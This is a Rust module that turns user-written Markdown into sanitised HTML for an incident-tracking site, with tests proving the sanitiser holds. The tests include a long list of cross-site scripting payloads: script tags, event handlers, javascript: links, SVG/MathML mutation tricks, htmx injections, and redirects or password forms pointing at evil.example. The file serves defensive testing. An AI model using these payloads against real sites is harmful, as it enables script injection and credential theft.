//! Markdown as people write it, turned into HTML that can do no harm (ASVS 1.3.5).
//!
//! Two nets, each sufficient alone: the Markdown side passes no raw HTML and no image, and what comes out goes through a sanitiser that
//! knows a dozen tags and two attributes.

use std::collections::{HashMap, HashSet};
use std::fmt;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// HTML that went through the sanitiser: the only type that templates do not escape.
///
/// Nothing but [`render`] makes one. That it is safe is said here, once, by its type; a test holds that no template says so of anything.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SafeHtml(String);

impl SafeHtml {
    /// Nothing was written, or nothing of it was left.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The HTML.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl askama::filters::HtmlSafe for SafeHtml {}

impl fmt::Display for SafeHtml {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// The tags that Markdown needs and the sanitiser keeps.
const TAGS: [&str; 14] = ["p", "br", "hr", "h4", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a"];
const SCHEMES: [&str; 3] = ["http", "https", "mailto"];
const REL: &str = "nofollow noopener noreferrer";

/// Links carry no `title`: htmx rewrites `<hx-…` anywhere in a fragment's text before it parses it, inside attribute values too, and a
/// free text there could break out of its quotes. An `href` can't: the Markdown side percent-encodes angle brackets.
static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(SCHEMES))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some(REL));
    builder
});

/// Renders Markdown (CommonMark with strikethrough) for a page.
///
/// HTML in it is shown as the text it is, an image by its description alone, every heading at the level below an incident's title, and a
/// line break stays one: people under stress write lines, not paragraphs.
pub fn render(markdown: &str) -> SafeHtml {
    let events = Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH).filter_map(tame);
    let mut unsafe_html = String::with_capacity(markdown.len() + markdown.len() / 2);
    html::push_html(&mut unsafe_html, events);
    SafeHtml(sanitize(&unsafe_html))
}

fn tame(event: Event<'_>) -> Option<Event<'_>> {
    Some(match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
        Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => return None,
        Event::Start(Tag::Heading { .. }) => {
            Event::Start(Tag::Heading { level: HeadingLevel::H4, id: None, classes: Vec::new(), attrs: Vec::new() })
        }
        Event::End(TagEnd::Heading(_)) => Event::End(TagEnd::Heading(HeadingLevel::H4)),
        Event::SoftBreak => Event::HardBreak,
        other => other,
    })
}

fn sanitize(unsafe_html: &str) -> String {
    let mut html = SANITIZER.clean(unsafe_html).to_string();
    html.truncate(html.trim_end().len());
    html
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_template_says_that_anything_is_safe() {
        fn templates(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
            let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
            entries.flat_map(|path| if path.is_dir() { templates(&path) } else { vec![path] }).collect()
        }
        let all = templates(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("templates"));
        assert!(all.len() > 30, "{}", all.len());
        for path in all {
            let text: String = std::fs::read_to_string(&path).unwrap().split_whitespace().collect();
            assert!(!text.contains("|safe") && !text.contains("escape("), "{}", path.display());
        }
    }

    /// What people have tried, or might: as Markdown, as HTML within Markdown, and across the seam of the two.
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "text <img src=x onerror=alert(1)> text",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<svg onload=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>click</a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style=\"position:fixed;inset:0\">cover</p>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea><script>alert(2)</script>",
        "<title><img src=x onerror=alert(1)></title>",
        "<!--><script>alert(1)</script-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=https://example.org onclick=alert(1) style=color:red id=banner class=banner target=_blank>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](\u{1}javascript:alert(1))",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](//evil.example)",
        "[x](/logout)",
        "[x](file:///etc/passwd)",
        "[x](https://example.org \"\\\" onmouseover=alert(1) y=\\\"\")",
        "[x](https://example.org\"onmouseover=\"alert(1))",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](https://evil.example/pixel.gif)",
        "![x\" onerror=\"alert(1)](x)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "```\"><script>alert(1)</script>\ncode\n```",
        "`<script>alert(1)</script>`",
        "# <img src=x onerror=alert(1)> {#banner .banner onclick=alert(1)}",
        "<hx-partial hx-target=\"#banner\" hx-swap=\"delete\">x</hx-partial>",
        "[x](https://example.org \"<hx-x onmouseover=alert(1) y\")",
        "[x](<https://example.org/<hx-x onmouseover=alert(1) y>)",
        "<div hx-get=/logout hx-trigger=load hx-on:click=alert(1) data-hx-post=/x>x</div>",
        "<b id=live hx-sse:connect=https://evil.example/>",
        "\u{202e}<script>\u{0}alert(1)</script>",
    ];

    /// Fails on any tag, attribute or address that is not on the short list. Reads what a serialiser wrote, so quotes are always double.
    fn assert_harmless(html: &str, from: &str) {
        assert!(!html.to_ascii_lowercase().contains("<hx-"), "htmx would rewrite this: {html}\nfrom: {from}");
        for tag in html.split('<').skip(1) {
            let (inside, _) = tag.split_once('>').unwrap_or_else(|| panic!("an open tag in {html}\nfrom: {from}"));
            let (name, mut attributes) = inside.split_once(' ').unwrap_or((inside, ""));
            let name = name.trim_start_matches('/');
            assert!(TAGS.contains(&name), "<{name}> in {html}\nfrom: {from}");
            while !attributes.trim().is_empty() {
                let (attribute, rest) =
                    attributes.trim_start().split_once("=\"").unwrap_or_else(|| panic!("odd attribute in {html}\nfrom: {from}"));
                let (value, rest) = rest.split_once('"').unwrap_or_else(|| panic!("open quote in {html}\nfrom: {from}"));
                let fine = match (name, attribute) {
                    ("a", "href") => ["http://", "https://", "mailto:"].iter().any(|scheme| value.to_ascii_lowercase().starts_with(scheme)),
                    ("a", "rel") => value == REL,
                    ("ol", "start") => value.bytes().all(|b| b.is_ascii_digit()),
                    _ => false,
                };
                assert!(fine, "{attribute}=\"{value}\" on <{name}> in {html}\nfrom: {from}");
                attributes = rest;
            }
        }
    }

    #[test]
    fn nothing_hostile_survives_as_markdown() {
        for snippet in HOSTILE {
            assert_harmless(render(snippet).as_str(), snippet);
            let nested = format!("> 1. *a* {snippet}\n\n- {snippet}\n");
            assert_harmless(render(&nested).as_str(), &nested);
        }
    }

    #[test]
    fn the_sanitiser_alone_would_hold_too() {
        for snippet in HOSTILE {
            assert_harmless(&sanitize(snippet), snippet);
            let mut raw = String::new();
            html::push_html(&mut raw, Parser::new(snippet));
            assert_harmless(&sanitize(&raw), snippet);
        }
    }

    #[test]
    fn the_measure_itself_can_fail() {
        for bad in ["<img src=\"x\">", "<p onclick=\"x\">", "<a href=\"javascript:x\">", "<a href=\"https://x\" rel=\"me\">", "<p"] {
            assert!(std::panic::catch_unwind(|| assert_harmless(bad, bad)).is_err(), "{bad}");
        }
    }

    #[test]
    fn what_people_write_is_kept() {
        let html = render(
            "Fixed **soon**, see [the log](https://example.org/a?b=1&c=2).\nSecond ~~line~~ line.\n\n# Why\n\n1. one\n2. `two < 3`\n",
        );
        assert_eq!(
            html.as_str(),
            "<p>Fixed <strong>soon</strong>, see <a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"nofollow noopener noreferrer\">the log</a>.<br>\n\
             Second <del>line</del> line.</p>\n<h4>Why</h4>\n<ol>\n<li>one</li>\n<li><code>two &lt; 3</code></li>\n</ol>"
        );
        assert!(render("").is_empty());
        assert!(render(" \n").is_empty());
    }

    #[test]
    fn html_is_shown_as_typed_and_an_image_by_its_description() {
        assert_eq!(render("a <b>bold</b> claim").as_str(), "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>");
        assert_eq!(render("![the graph](https://example.org/x.png)").as_str(), "<p>the graph</p>");
    }

    #[test]
    fn depth_does_no_harm() {
        for deep in [">".repeat(4_000), "- ".repeat(2_000), "*a ".repeat(4_000), "[".repeat(4_000)] {
            assert_harmless(render(&deep).as_str(), "deep nesting");
        }
    }
}
